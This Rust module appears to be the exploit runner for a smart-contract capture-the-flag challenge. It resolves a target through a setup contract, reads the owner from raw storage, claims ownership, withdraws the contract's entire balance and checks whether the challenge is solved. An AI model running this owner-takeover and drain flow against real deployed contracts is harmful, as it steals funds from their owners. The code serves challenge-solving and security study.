//! Exploit runner
//!
//! Runs the fixed owner-takeover script against one target: resolve the
//! target from the setup contract, reveal its owner straight from storage,
//! claim ownership, withdraw everything, then ask the setup contract
//! whether the challenge is solved. Every write is finalized before the
//! next operation is issued, and any failure ends the run.

mod error;
mod plan;

use std::time::Instant;

use alloy::primitives::{Address, Bytes, B256, I256, U256};
use alloy_dyn_abi::DynSolValue;
use chrono::Utc;
use tracing::{debug, info, warn};

use crate::domain::abi::{format_values, resolve_args, CallContext, FunctionSpec};
use crate::domain::{
    format_ether, format_ether_signed, BalanceDelta, Report, ReportEntry, ReportSink, Step,
};
use crate::infrastructure::{LedgerClient, Receipt};

pub use error::{BoxError, FinalizationError, ReadError, ResolutionError, RunError};
pub use plan::{parse_address, ExploitPlan, Finality, Invocation};

/// Handle to a submitted write that has not been observed as final yet
///
/// Only [`ExploitRunner::submit`] creates one, and
/// [`ExploitRunner::await_finalization`] consumes it.
#[derive(Debug)]
pub struct PendingWrite {
    label: String,
    tx_hash: B256,
    submitted_at: Instant,
}

impl PendingWrite {
    pub fn tx_hash(&self) -> B256 {
        self.tx_hash
    }
}

/// Target and caller balances read at the same point of the script
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Balances {
    pub target: U256,
    pub caller: U256,
}

/// Result of a complete run
#[derive(Debug, Clone)]
pub struct RunOutcome {
    pub target: Address,
    pub caller: Address,
    pub previous_owner: Address,
    pub new_owner: Address,
    pub before: Balances,
    pub after: Balances,
    pub claim: Receipt,
    pub withdraw: Receipt,
    pub solved: bool,
    pub report: Report,
}

impl RunOutcome {
    pub fn target_delta(&self) -> BalanceDelta {
        BalanceDelta::new(self.before.target, self.after.target)
    }

    pub fn caller_delta(&self) -> BalanceDelta {
        BalanceDelta::new(self.before.caller, self.after.caller)
    }

    /// Fees the caller paid for both writes
    pub fn fees(&self) -> U256 {
        self.claim.fee() + self.withdraw.fee()
    }
}

pub struct ExploitRunner<'a, S: ReportSink> {
    ledger: &'a dyn LedgerClient,
    plan: &'a ExploitPlan,
    caller: Address,
    sink: S,
    report: Report,
}

impl<'a, S: ReportSink> ExploitRunner<'a, S> {
    pub fn new(ledger: &'a dyn LedgerClient, plan: &'a ExploitPlan, sink: S) -> Result<Self, RunError> {
        let caller = ledger.identity().ok_or(RunError::NoIdentity)?;
        Ok(Self {
            ledger,
            plan,
            caller,
            sink,
            report: Report::new(),
        })
    }

    /// Observations made so far (survives a failed run)
    pub fn observations(&self) -> &Report {
        &self.report
    }

    /// Ask the setup contract for the address under attack
    pub async fn resolve_target(&self) -> Result<Address, ResolutionError> {
        let setup = self.plan.setup;
        let getter = &self.plan.target_getter;

        let calldata = getter
            .encode_call(&[])
            .map_err(|err| ResolutionError::Unusable {
                setup,
                getter: getter.signature.clone(),
                reason: format!("{err:#}"),
            })?;

        let data = self
            .ledger
            .call(setup, Bytes::from(calldata))
            .await
            .map_err(|err| ResolutionError::Call {
                setup,
                getter: getter.signature.clone(),
                source: err.into(),
            })?;

        let values = getter
            .decode_output(&data)
            .map_err(|err| ResolutionError::Unusable {
                setup,
                getter: getter.signature.clone(),
                reason: format!("{err:#}"),
            })?;

        match values.as_slice() {
            [DynSolValue::Address(addr)] if addr.is_zero() => Err(ResolutionError::ZeroAddress {
                setup,
                getter: getter.signature.clone(),
            }),
            [DynSolValue::Address(addr)] => Ok(*addr),
            other => Err(ResolutionError::Unusable {
                setup,
                getter: getter.signature.clone(),
                reason: format!("expected a single address, got {}", format_values(other)),
            }),
        }
    }

    /// Non-mutating contract query
    pub async fn read(
        &self,
        address: Address,
        function: &FunctionSpec,
        args: &[DynSolValue],
    ) -> Result<Vec<DynSolValue>, RunError> {
        let calldata = function.encode_call(args).map_err(|err| RunError::Encode {
            function: function.signature.clone(),
            source: err.into(),
        })?;

        let data = self
            .ledger
            .call(address, Bytes::from(calldata))
            .await
            .map_err(|err| ReadError::Call {
                address,
                function: function.signature.clone(),
                source: err.into(),
            })?;

        let values = function
            .decode_output(&data)
            .map_err(|err| ReadError::Decode {
                address,
                function: function.signature.clone(),
                reason: format!("{err:#}"),
            })?;
        Ok(values)
    }

    /// Raw storage word, regardless of the variable's declared visibility
    pub async fn read_storage(&self, address: Address, slot: U256) -> Result<B256, ReadError> {
        self.ledger
            .get_storage_at(address, slot)
            .await
            .map_err(|err| ReadError::Storage {
                address,
                slot,
                source: err.into(),
            })
    }

    pub async fn read_balance(&self, address: Address) -> Result<U256, ReadError> {
        self.ledger
            .get_balance(address)
            .await
            .map_err(|err| ReadError::Balance {
                address,
                source: err.into(),
            })
    }

    /// Send a state-changing call; returns as soon as the node accepted it
    pub async fn submit(
        &self,
        to: Address,
        function: &FunctionSpec,
        args: &[DynSolValue],
    ) -> Result<PendingWrite, RunError> {
        let label = function.signature.clone();
        let calldata = function.encode_call(args).map_err(|err| RunError::Encode {
            function: label.clone(),
            source: err.into(),
        })?;

        let tx_hash = match self.ledger.send_transaction(to, Bytes::from(calldata)).await {
            Ok(hash) => hash,
            Err(err) => {
                warn!(%to, function = %label, "write rejected: {err:#}");
                return Err(FinalizationError::Rejected {
                    label,
                    source: err.into(),
                }
                .into());
            }
        };

        debug!(%to, function = %label, %tx_hash, "write submitted");
        Ok(PendingWrite {
            label,
            tx_hash,
            submitted_at: Instant::now(),
        })
    }

    /// Wait until the ledger has a receipt for `pending`
    pub async fn await_finalization(&self, pending: PendingWrite) -> Result<Receipt, FinalizationError> {
        let timeout = self.plan.finality.timeout();
        let poll_interval = self.plan.finality.poll_interval();

        let poll = async {
            let mut ticker = tokio::time::interval(poll_interval);
            loop {
                ticker.tick().await;
                match self.ledger.get_receipt(pending.tx_hash).await {
                    Ok(Some(receipt)) => return Ok(receipt),
                    Ok(None) => continue,
                    Err(err) => {
                        return Err(FinalizationError::Lookup {
                            label: pending.label.clone(),
                            tx_hash: pending.tx_hash,
                            source: err.into(),
                        })
                    }
                }
            }
        };

        let polled = tokio::time::timeout(timeout, poll).await;
        let receipt = match polled {
            Ok(result) => result?,
            Err(_) => {
                warn!(tx_hash = %pending.tx_hash, function = %pending.label, "write not finalized in time");
                return Err(FinalizationError::TimedOut {
                    label: pending.label,
                    tx_hash: pending.tx_hash,
                    after: timeout,
                });
            }
        };

        if !receipt.success {
            warn!(tx_hash = %pending.tx_hash, function = %pending.label, "write reverted");
            return Err(FinalizationError::Reverted {
                label: pending.label,
                tx_hash: pending.tx_hash,
                receipt: Box::new(receipt),
            });
        }

        info!(
            tx_hash = %pending.tx_hash,
            function = %pending.label,
            block = ?receipt.block_number,
            elapsed_ms = pending.submitted_at.elapsed().as_millis() as u64,
            "write finalized"
        );
        Ok(receipt)
    }

    /// Record an observation; never affects control flow
    pub fn report(&mut self, step: Step, label: impl Into<String>, value: impl Into<String>) {
        let entry = ReportEntry {
            step,
            label: label.into(),
            value: value.into(),
            at: Utc::now(),
        };
        self.sink.observe(&entry);
        self.report.push(entry);
    }

    /// Run the whole script
    pub async fn run(&mut self) -> Result<RunOutcome, RunError> {
        let plan = self.plan;
        let caller = self.caller;
        info!(endpoint = %self.ledger.endpoint_name(), setup = %plan.setup, %caller, "starting run");

        // 1. object under attack
        let target = self.resolve_target().await?;
        info!(%target, "target resolved");
        self.report(Step::Resolve, "attacking", target.to_checksum(None));

        // 2. storage is public whatever the declared visibility
        let owner_word = self.read_storage(target, plan.owner_slot).await?;
        let previous_owner = Address::from_word(owner_word);
        self.report(
            Step::RevealOwner,
            format!("storage slot {}", plan.owner_slot),
            owner_word.to_string(),
        );
        self.report(Step::RevealOwner, "owner", describe_owner(previous_owner));

        // 3. starting balances
        let before = self.read_balances(target).await?;
        self.report(
            Step::Balances,
            format!("balance of {}", target.to_checksum(None)),
            format!("{} ETH", format_ether(before.target)),
        );
        self.report(Step::Balances, "caller", caller.to_checksum(None));
        self.report(
            Step::Balances,
            "balance of caller",
            format!("{} ETH", format_ether(before.caller)),
        );

        let ctx = CallContext {
            caller,
            target,
            target_balance: before.target,
        };

        // 4. privilege claim
        let claim = self.execute_write(Step::ClaimOwnership, target, &plan.claim, &ctx).await?;
        let new_owner = Address::from_word(self.read_storage(target, plan.owner_slot).await?);
        self.report(Step::ClaimOwnership, "owner now", describe_owner(new_owner));
        if new_owner != caller {
            warn!(%new_owner, %caller, "owner slot does not hold the caller after the claim");
        }

        // 5. value extraction
        let withdraw = self.execute_write(Step::Withdraw, target, &plan.withdraw, &ctx).await?;

        // 6. aftermath
        let after = self.read_balances(target).await?;
        let target_delta = BalanceDelta::new(before.target, after.target);
        let caller_delta = BalanceDelta::new(before.caller, after.caller);
        let fees = claim.fee() + withdraw.fee();
        self.report(
            Step::Aftermath,
            format!("remaining balance of {}", target.to_checksum(None)),
            format!("{} ETH", format_ether(after.target)),
        );
        self.report(
            Step::Aftermath,
            "taken from target",
            format!("{} ETH", format_ether_signed(target_delta.outflow())),
        );
        self.report(
            Step::Aftermath,
            "caller balance",
            format!("{} ETH", format_ether(after.caller)),
        );
        self.report(
            Step::Aftermath,
            "caller change",
            format!("{} ETH", format_ether_signed(caller_delta.inflow())),
        );
        self.report(Step::Aftermath, "fees paid", format!("{} ETH", format_ether(fees)));
        let gross = caller_delta.inflow() + I256::try_from(fees).unwrap_or(I256::ZERO);
        self.report(
            Step::Aftermath,
            "caller gain before fees",
            format!("{} ETH", format_ether_signed(gross)),
        );

        // 7. verdict
        let values = self.read(plan.setup, &plan.solved, &[]).await?;
        let solved = match values.as_slice() {
            [DynSolValue::Bool(flag)] => *flag,
            other => {
                return Err(ReadError::Decode {
                    address: plan.setup,
                    function: plan.solved.signature.clone(),
                    reason: format!("expected a single bool, got {}", format_values(other)),
                }
                .into())
            }
        };
        self.report(Step::Verdict, plan.solved.signature.clone(), solved.to_string());
        if solved {
            info!("challenge solved");
        } else {
            warn!("setup contract does not consider the challenge solved");
        }

        Ok(RunOutcome {
            target,
            caller,
            previous_owner,
            new_owner,
            before,
            after,
            claim,
            withdraw,
            solved,
            report: self.report.clone(),
        })
    }

    async fn read_balances(&self, target: Address) -> Result<Balances, ReadError> {
        let target_balance = self.read_balance(target).await?;
        let caller_balance = self.read_balance(self.caller).await?;
        Ok(Balances {
            target: target_balance,
            caller: caller_balance,
        })
    }

    async fn execute_write(
        &mut self,
        step: Step,
        to: Address,
        invocation: &Invocation,
        ctx: &CallContext,
    ) -> Result<Receipt, RunError> {
        let function = &invocation.function;
        let args = resolve_args(&invocation.args, &function.inputs, ctx).map_err(|err| {
            RunError::Encode {
                function: function.signature.clone(),
                source: err.into(),
            }
        })?;

        info!(step = %step, function = %function.signature, "submitting write");
        let pending = self.submit(to, function, &args).await?;
        self.report(step, format!("submitted {}", function.signature), pending.tx_hash().to_string());

        let receipt = self.await_finalization(pending).await?;
        let summary = serde_json::to_string(&receipt).unwrap_or_else(|_| format!("{:?}", receipt));
        self.report(step, "receipt", summary);
        self.report(step, "fee", format!("{} ETH", format_ether(receipt.fee())));
        Ok(receipt)
    }
}

fn describe_owner(owner: Address) -> String {
    if owner.is_zero() {
        format!("{} (unset)", owner.to_checksum(None))
    } else {
        owner.to_checksum(None)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_describe_owner() {
        assert!(describe_owner(Address::ZERO).ends_with("(unset)"));
        let owner = Address::with_last_byte(7);
        assert_eq!(describe_owner(owner), owner.to_checksum(None));
    }
}
